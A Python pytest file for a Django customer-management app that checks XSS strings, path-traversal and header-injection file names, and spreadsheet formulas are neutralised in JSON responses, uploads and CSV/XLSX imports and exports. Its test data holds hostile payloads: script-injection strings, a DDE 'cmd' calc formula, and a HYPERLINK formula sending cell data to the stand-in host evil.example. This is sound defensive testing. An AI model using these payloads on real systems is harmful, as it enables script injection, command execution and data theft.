"""Somebody files a customer whose name is a script, whose note is a formula, in a file whose name is an attack.

What comes back is JSON that no browser takes for a page, workbooks whose cells are texts, and downloads whose names stay
in their line.
"""

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client

from kedang.engine.tables.opening import open_table
from kedang.engine.tables.writer import CsvWriter, XlsxWriter
from kedang.kit.env import settings
from tests.abuse import scene
from tests.abuse.scene import Scene, get, text
from tests.people import browser, send

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</script><svg onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\u2028\u2029<!--",
    "[x](javascript:alert(1))",
    "＜script＞alert(1)＜/script＞",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    '"=1+1"',
    ";=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
)
STARTERS = "=+-@\t\r\n＝＋－＠"


@pytest.fixture
def there() -> Scene:
    """The scene."""
    return scene.build()


@pytest.fixture
def zhou(there: Scene) -> Client:
    """周's browser."""
    return browser(there.cast.zhou)


def safe(answer: Any) -> None:
    """JSON that stays JSON, with everything that keeps a browser from guessing."""
    assert answer["Content-Type"].split(";")[0] == "application/json"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in answer["Content-Security-Policy"]
    assert "unsafe" not in answer["Content-Security-Policy"].replace("style-src 'self' 'unsafe-inline'", "")
    assert answer["Cache-Control"] == "no-store"
    assert answer["X-Frame-Options"] == "DENY"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", SCRIPTS)
def test_scripts_come_back_as_json_only(there: Scene, zhou: Client, payload: str) -> None:
    base = f"/customers/{there.company}"
    manager = browser(there.cast.wang)
    answers = [
        send(zhou, "PATCH", base, {"values": {"name": payload, "remark": payload, "brand_name": payload}}),
        send(zhou, "POST", f"{base}/notes", {"body": payload}),
        send(zhou, "POST", f"{base}/contacts", {"name": payload, "title": payload}),
        send(manager, "POST", "/tags", {"name": payload[:60]}),
        send(manager, "POST", "/tags", {"name": "x", "colour": payload[:16]}),
        send(zhou, "POST", "/views", {"list": "customers", "name": payload[:60], "state": {"filter": []}}),
        send(zhou, "PATCH", base, {"values": {payload: "x"}}),
        get(zhou, base),
        get(zhou, f"{base}/history"),
        get(zhou, "/customers"),
        get(zhou, "/customers", sort=payload),
        get(zhou, "/search", q=payload),
        get(zhou, "/views"),
        get(zhou, f"/{payload}"),
        get(zhou, f"/templates/{payload}"),
    ]
    for answer in answers:
        assert answer.status_code < 500
        safe(answer)
    assert get(zhou, base).json()["name"], "the name was kept"
    page = zhou.get(f"/customers/{payload}")
    assert payload.encode() not in page.content


@pytest.mark.django_db
def test_the_name_of_a_file_is_only_a_name(there: Scene, zhou: Client) -> None:
    for name in (
        "../../../../etc/passwd.csv",
        "..\\..\\boot.csv",
        'a"; filename="evil.html.csv',
        "a\r\nSet-Cookie: x=y.csv",
        "<img src=x onerror=alert(1)>.csv",
        "客户\u202efdp.csv",
        "x" * 5000 + ".csv",
        ".csv",
    ):
        handle = io.BytesIO("姓名,手机\n甲,13500001111\n".encode())
        handle.name = name
        sent = zhou.post("/api/imports", {"file": handle})
        assert sent.status_code in (201, 400, 422), (name, sent.content)
        safe(sent)
        if sent.status_code != 201:
            continue
        kept = sent.json()["filename"]
        assert "/" not in kept, name
        assert "\\" not in kept, name
        assert len(kept) <= 255
    assert [path for path in settings().home.rglob("*passwd*") if path.is_file()] == []


@pytest.mark.django_db
def test_the_result_workbook_holds_texts_and_a_plain_name(there: Scene, zhou: Client) -> None:
    target = io.StringIO()
    rows = csv.writer(target)
    rows.writerow(["姓名", "手机", "备注", "=1+1"])
    for number, formula in enumerate(FORMULAS):
        rows.writerow([formula, f"135{number:08d}", formula, formula])
    run = scene.start_import(zhou, target.getvalue().encode(), "=1+1.csv")
    scene.judge(zhou, run)
    answer = zhou.get(f"/api/imports/{run}/report.xlsx")
    assert answer["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', answer["Content-Disposition"])
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cache-Control"] == "no-store"
    _texts_only(answer.content)


def _texts_only(content: bytes) -> None:
    book = zipfile.ZipFile(io.BytesIO(content))
    assert not [name for name in book.namelist() if "macro" in name.lower() or "external" in name.lower()]
    for name in book.namelist():
        if "worksheets" in name:
            sheet = book.read(name).decode()
            assert "<f>" not in sheet
            assert "<f " not in sheet
            for cell in re.findall(r"<t[^>]*>([^<]*)</t>", sheet):
                assert cell[:1] not in tuple(STARTERS) or cell == "", cell


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_is_written_is_protected_and_comes_back_as_it_was(formula: str) -> None:
    for kind, writer in (("csv", CsvWriter), ("xlsx", XlsxWriter)):
        target = io.BytesIO()
        out = writer(target, ["名称", "备注"])
        out.row(["甲", formula])
        out.close()
        content = target.getvalue()
        if kind == "xlsx":
            _texts_only(content)
        else:
            cell = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][1]
            assert cell[:1] not in tuple(STARTERS), cell
        (sheet,) = open_table(content, filename=f"x.{kind}").sheets
        back = [row.cells for row in sheet.rows()][1][1]
        assert back.strip() == formula.strip(), kind


@pytest.mark.django_db
def test_an_export_is_as_safe_as_the_writers(there: Scene) -> None:
    lin = browser(there.cast.lin)
    assert send(lin, "PATCH", f"/customers/{there.company}", {"values": {"remark": "=1+1"}}).status_code == 200
    for kind, media in (
        ("csv", "text/csv"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ):
        answer = get(lin, "/customers/export", format=kind, columns="name,remark,mobile,landline")
        content = b"".join(answer) if answer.streaming else answer.content
        assert answer["Content-Type"].split(";")[0] == media
        assert "attachment" in answer["Content-Disposition"]
        if kind == "csv":
            assert not re.search(r"(^|,)=1\+1", content.decode("utf-8-sig"))
            assert "13877665544" not in content.decode("utf-8-sig")
        else:
            _texts_only(content)
        refused = get(browser(there.cast.zhou), "/customers/export", format=kind)
        assert refused.status_code == 403


@pytest.mark.django_db
def test_the_reference_and_the_pages_keep_the_policy(there: Scene) -> None:
    for path in ("/", "/api/docs", "/api/openapi.json", "/healthz", "/customers/1", "/static/nothing.js"):
        answer = Client().get(path)
        assert "script-src 'self'" in answer["Content-Security-Policy"], path
        assert answer["X-Content-Type-Options"] == "nosniff", path
        assert "碧落" not in text(answer) if not answer.streaming else True
